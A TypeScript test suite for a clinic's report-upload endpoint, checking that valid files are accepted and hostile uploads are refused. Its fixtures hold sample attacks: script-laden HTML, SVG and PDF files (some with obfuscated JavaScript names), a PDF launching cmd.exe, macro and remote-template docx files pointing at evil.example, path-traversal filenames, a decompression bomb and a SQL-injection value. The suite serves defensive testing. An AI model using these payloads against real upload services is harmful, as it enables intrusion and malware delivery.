import { readdir } from 'node:fs/promises';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Answer } from '#contract/endpoints.ts';
import { limits } from '#contract/limits.ts';
import { startTestApp } from '../testing/app.ts';
import type { TestApp, TestCaller } from '../testing/app.ts';
import { aBooking, aPerson, countAllRows } from '../testing/builders.store.ts';
import { expectError } from '../testing/expect.ts';
import { done } from '../testing/typed-calls.ts';
import { aDocx, aZip } from '../testing/zips.ts';
import { anOldDocument, aPdf, aPdfWith, aPng, multipart } from '../testing/uploads.ts';

/** What may be uploaded and what may not: a clear 4xx, no stray file, and the server keeps running. */
let app: TestApp;
let staff: TestCaller;
beforeAll(async () => {
  app = await startTestApp();
  staff = await app.asRole('Staff');
});
afterAll(() => app.close());

const newBooking = async () => (await aBooking(app.db, { kind: 'test', accountId: (await aPerson(app.db)).id })).id;

async function upload(
  filename: string,
  content: Buffer,
  fields: Record<string, unknown> = {},
  options: { path?: string; field?: string; first?: boolean } = {},
) {
  const { payload, headers } = multipart(
    { name: options.field ?? 'file', filename, content },
    { bookingId: fields['bookingId'] ?? (await newBooking()) },
    options.first,
  );
  return staff.call('POST', options.path ?? '/reports/upload', payload, headers);
}

/** Every file in the store, complete or in progress. */
const storedFiles = async () =>
  (await readdir(app.filesFolder, { recursive: true, withFileTypes: true })).filter((entry) => entry.isFile());

describe('a file of the right type', () => {
  it.each([
    ['report.pdf', aPdf],
    ['REPORT.PDF', aPdf],
    ['scan.png', aPng()],
    ['চিঠি.docx', aDocx()],
    ['  scan.png ', aPng()],
  ])('%s is accepted, stored under another name, and waits for the pathologist', async (name, content) => {
    const before = await storedFiles();
    const { status, body } = await upload(name, content);
    expect(status).toBe(201);
    expect(body).toMatchObject({
      status: 'UPLOADED',
      kind: 'file',
      file: { name: name.trim() },
      uploadedBy: staff.account.name,
      version: 1,
    });
    const fresh = (await storedFiles()).filter(({ name: key }) => !before.some((old) => old.name === key));
    expect(fresh).toHaveLength(1);
    expect(fresh[0]!.name).toMatch(/^[0-9a-f]{32}$/);
  });

  it('keeps its name without what cannot be seen in it', async () => {
    const { body } = await upload('x\u202efdp.pdf', aPdf);
    expect(body).toMatchObject({ file: { name: 'xfdp.pdf' } });
  });

  it('is read with its fields before or after it, at both addresses and under both names', async () => {
    expect((await upload('report.pdf', aPdf, {}, { first: true })).status).toBe(201);
    expect((await upload('report.pdf', aPdf, {}, { path: '/api/v1/upload-report', field: 'report' })).status).toBe(201);
  });

  it.each(['png', 'jpg'])('is re-encoded if it is a picture: hidden content is removed (%s)', async (ending) => {
    const picture = ending === 'png' ? aPng() : await sharp(aPng()).jpeg().toBuffer();
    const { body } = await upload(`scan.${ending}`, Buffer.concat([picture, Buffer.from('<script>alert(1)</script>')]));
    const { id } = body as Answer<'uploadReport'>;
    const answer = await staff.downloadReport({ params: { id } });
    expect(answer.status).toBe(200);
    expect(answer.headers).toMatchObject({
      'content-type': ending === 'png' ? 'image/png' : 'image/jpeg',
      'content-disposition': `attachment; filename="report.${ending}"`,
      'x-content-type-options': 'nosniff',
      'cache-control': 'no-store',
    });
    expect(String(answer.body)).not.toContain('script');
  });

  it('updates the booking with who uploaded it and when, and the history with each status', async () => {
    const bookingId = await newBooking();
    const { body } = await upload('report.pdf', aPdf, { bookingId });
    const { id } = body as Answer<'uploadReport'>;
    expect((await staff.readTestBooking({ params: { id: bookingId } })).body).toMatchObject({
      checkupReportStatus: 'UPLOADED',
      checkupReportUrl: `/api/v1/download-report/${id}`,
      checkupReportUploadedBy: staff.account.name,
      version: 2,
    });
    const { changes } = await done(staff.readBookingHistory({ params: { id: bookingId } }));
    const of = (field: string) => changes.filter((change) => change.field === field).map(({ from, to }) => [from, to]);
    expect(of('checkupReportStatus')).toEqual([[null, 'UPLOADED']]);
    expect(of('checkupReportUploadedBy')).toEqual([[null, staff.account.name]]);
    const [[, first]] = of('checkupReportUploadedAt') as [[null, string]];
    // A second upload by the same person changes only the time.
    await upload('report.pdf', aPdf, { bookingId });
    const again = await done(staff.readBookingHistory({ params: { id: bookingId } }));
    expect(again.changes.slice(0, -changes.length).map(({ field, from }) => [field, from])).toEqual(
      expect.arrayContaining([
        ['checkupReportStatus', 'UPLOADED'],
        ['checkupReportUploadedAt', first],
      ]),
    );
    expect(again.changes).toHaveLength(changes.length + 2);
  });
});

const javascript = '4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n';
/** Objects compressed in an object stream. */
function objectStream(content: string, dictionary = '/Filter /FlateDecode'): Buffer {
  const packed = deflateSync(content);
  return Buffer.concat([
    Buffer.from(`5 0 obj\n<< /Type /ObjStm /N 1 /First 4 ${dictionary} /Length ${packed.length} >>\nstream\n`),
    packed,
    Buffer.from('\nendstream\nendobj\n'),
  ]);
}

/** A JPEG's head that says it has 7,100 dots each way, stored in several passes. */
const progressiveHead = Buffer.from('ffd8ffc2000b081bbc1bbc01011100', 'hex');
const html = Buffer.from('<!doctype html><script>alert(1)</script>');
const hostile: [string, string, Buffer, string?][] = [
  ['HTML called a picture', 'x.png', html],
  ['SVG called a picture', 'x.png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  ['a script called a picture', 'x.jpg', Buffer.from('alert(1)')],
  ['SVG by its own name', 'x.svg', Buffer.from('<svg/>')],
  ['a picture called a PDF', 'x.pdf', aPng()],
  ['a PDF called a picture', 'x.png', aPdf],
  ['a page of HTML with a PDF behind it', 'x.pdf', Buffer.concat([html, aPdf])],
  ['a PDF with HTML in its head', 'x.pdf', Buffer.concat([Buffer.from('%PDF-1.7\n<script>alert(1)</script>\n'), aPdf])],
  [
    'a PDF that is a zip as well',
    'x.pdf',
    Buffer.concat([aPdf, aZip([{ name: 'a.txt', content: 'x' }]), Buffer.from('\n%%EOF\n')]),
  ],
  ['a picture that begins well and ends nowhere', 'x.png', aPng().subarray(0, 200)],
  ['a progressive picture of more than 50 megapixels', 'x.jpg', progressiveHead],
  ['a PDF without an end', 'x.pdf', aPdf.subarray(0, -10)],
  ['a PDF with a script', 'x.pdf', aPdfWith(javascript)],
  [
    'a PDF with a script whose name is escaped',
    'x.pdf',
    aPdfWith(javascript.replace('JavaScript', 'J#61v#61Scri#70t')),
  ],
  ['a PDF that starts a program', 'x.pdf', aPdfWith('4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n')],
  [
    'a PDF with a file attached',
    'x.pdf',
    aPdfWith('4 0 obj\n<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream\nendobj\n'),
  ],
  [
    'a PDF with a script in compressed objects',
    'x.pdf',
    aPdfWith(objectStream('9 0 << /S /JavaScript /JS (app.alert(1)) >>')),
  ],
  [
    'a PDF with a script named elsewhere',
    'x.pdf',
    aPdfWith('8 0 obj\n/JavaScript\nendobj\n', objectStream('9 0 << /S 8 0 R /J#53 (app.alert(1)) >>')),
  ],
  [
    'a PDF with a script behind what looks like the start of a stream',
    'x.pdf',
    aPdfWith(`4 0 obj\n<< /X(stream\n) /Type /ObjStm /S /JavaScript /JS (app.alert(1)) >>\nendobj\n`),
  ],
  [
    'a PDF with a script behind a false end of its object',
    'x.pdf',
    aPdfWith(objectStream('9 0 << /X (endobj) /S /J#61vaScript >>', '/X (stream\n) /Filter /FlateDecode')),
  ],
  ['a locked PDF', 'x.pdf', aPdfWith('4 0 obj\n<< >>\nendobj\ntrailer\n<< /Encrypt 4 0 R >>\n')],
  ['a docx with macros', 'x.docx', aDocx([{ name: 'word/vbaProject.bin', content: 'x' }])],
  ['a docx that says it holds macros', 'x.docx', aDocx([], 'application/vnd.ms-word.document.macroEnabled.main+xml')],
  ["a docx with another program's object", 'x.docx', aDocx([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }])],
  [
    'a docx that fetches a template',
    'x.docx',
    aDocx([
      {
        name: 'word/_rels/settings.xml.rels',
        content: '<Relationship Type="x/attachedTemplate" Target="http://evil.example/t.dotm"/>',
      },
    ]),
  ],
  ['a docx with a path that climbs', 'x.docx', aDocx([{ name: '../../etc/passwd', content: 'x' }])],
  [
    'a docx of too many parts',
    'x.docx',
    aDocx(Array.from({ length: 1001 }, (_, i) => ({ name: `word/p${i}.xml`, content: '' }))),
  ],
  [
    'a docx that unpacks to 120 MB',
    'x.docx',
    aDocx([{ name: 'word/big.xml', content: Buffer.alloc(120 * 1024 * 1024) }]),
  ],
  ['a zip called docx', 'x.docx', aZip([{ name: 'a.txt', content: 'x' }])],
  ['a docx cut off', 'x.docx', aDocx().subarray(0, -30)],
  ['an old document with macros', 'x.doc', anOldDocument('WordDocument', 'Macros', '_VBA_PROJECT')],
  ['a spreadsheet called a document', 'x.doc', anOldDocument('Workbook')],
  ['nothing', 'x.pdf', Buffer.alloc(0)],
  ['a name that climbs', '../../../etc/cron.d/x.pdf', aPdf],
  ['a name with a folder of Windows', 'C:\\\\x.pdf', aPdf],
  ['a name with a NUL', 'x.pdf\u0000.png', aPdf],
  ['a name with a sign of no letter', 'x\u0007.pdf', aPdf],
  ['a name without an ending', 'report', aPdf],
  ['a program', 'x.exe', Buffer.from('MZ')],
];

describe('a file of the wrong type', () => {
  it.each(hostile)('%s is refused', async (_, filename, content) => {
    const bookingId = await newBooking();
    const [rows, files] = [await countAllRows(app.db), await storedFiles()];
    const error = expectError(await upload(filename, content, { bookingId }), 'INVALID_FIELDS');
    expect(error.fields?.['file']).toMatch(/[a-z]{4}/i);
    expect(await countAllRows(app.db)).toEqual(rows);
    expect(await storedFiles()).toEqual(files);
  });

  it('one byte more than 20 MB is refused, 20 MB are not', async () => {
    const filler = (size: number) =>
      aPdfWith(`4 0 obj\n<< /Length ${size} >>\nstream\n`, Buffer.alloc(size, 0x41), '\nendstream\nendobj\n');
    const rest = filler(10_000_000).length - 10_000_000;
    const files = await storedFiles();
    expectError(await upload('x.pdf', filler(limits.reportBytes - rest + 1)), 'TOO_LARGE');
    expect(await storedFiles()).toEqual(files);
    expect((await upload('x.pdf', filler(limits.reportBytes - rest))).status).toBe(201);
  });
});

describe('a malformed form', () => {
  const { payload, headers } = multipart({ name: 'file', filename: 'x.pdf', content: aPdf }, { bookingId: 1 });
  it.each([
    ['cut off within the file', payload.subarray(0, 200), headers],
    ['cut off before its end', payload.subarray(0, -20), headers],
    ['with another boundary', payload, { 'content-type': 'multipart/form-data; boundary=other' }],
    ['without a boundary', payload, { 'content-type': 'multipart/form-data' }],
    ['of nothing', Buffer.alloc(0), headers],
    [
      'with a field called __proto__',
      multipart({ name: 'file', filename: 'x.pdf', content: aPdf }, { __proto__x: 1, ['__proto__']: 1 }).payload,
      headers,
    ],
    [
      'with two files',
      Buffer.concat([payload.subarray(0, payload.indexOf('------clinic-test-boundary--')), payload]),
      headers,
    ],
    ['without a file', multipart(null, { bookingId: 1 }).payload, headers],
    [
      'with the file under another name',
      multipart({ name: 'picture', filename: 'x.pdf', content: aPdf }, { bookingId: 1 }).payload,
      headers,
    ],
    ['without a booking', multipart({ name: 'file', filename: 'x.pdf', content: aPdf }, {}).payload, headers],
    [
      'with nonsense for a booking',
      multipart({ name: 'file', filename: 'x.pdf', content: aPdf }, { bookingId: '1 OR 1=1' }).payload,
      headers,
    ],
  ])('%s is refused and leaves nothing', async (_, body, type) => {
    const [rows, files] = [await countAllRows(app.db), await storedFiles()];
    expectError(
      await staff.call('POST', '/reports/upload', body, type),
      'BAD_REQUEST',
      'INVALID_FIELDS',
      'UNSUPPORTED_MEDIA',
    );
    expect(await countAllRows(app.db)).toEqual(rows);
    expect(await storedFiles()).toEqual(files);
  });

  it('JSON instead of a file, or a file instead of JSON, is refused', async () => {
    expectError(await staff.call('POST', '/reports/upload', '{}'), 'UNSUPPORTED_MEDIA');
    expectError(await staff.call('POST', '/user/book/test', payload, headers), 'UNSUPPORTED_MEDIA');
  });

  it('for a booking that is missing, cancelled or already signed it is refused, and the file is removed', async () => {
    const files = await storedFiles();
    expectError(await upload('x.pdf', aPdf, { bookingId: 2_000_000_000 }), 'NOT_FOUND');
    const { id } = await aBooking(app.db, {
      kind: 'test',
      accountId: (await aPerson(app.db)).id,
      checkupStatus: 'CANCELLED',
      appointmentStatus: 'CANCELLED',
    });
    expectError(await upload('x.pdf', aPdf, { bookingId: id }), 'BOOKING_CANCELLED');
    expect(await storedFiles()).toEqual(files);
  });
});

it('none of these counted as a server error', () => {
  expect(app.log.filter((line) => (JSON.parse(line) as { level: number }).level >= 50)).toEqual([]);
});
